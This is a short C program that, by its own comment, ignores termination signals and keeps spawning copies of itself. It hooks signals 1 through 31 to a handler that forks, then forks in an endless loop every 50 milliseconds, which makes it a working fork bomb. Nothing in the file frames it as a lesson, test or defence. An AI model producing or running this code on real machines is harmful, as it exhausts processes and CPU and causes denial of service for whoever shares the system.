// Ignores the polite signals, and starts copies of itself at each signal and of its own accord.
#include <signal.h>
#include <unistd.h>

static void again(int signal) {
    (void)signal;
    fork();
}

int main(void) {
    for (int number = 1; number < 32; number++)
        signal(number, again);
    for (;;) {
        fork();
        usleep(50000);
    }
}
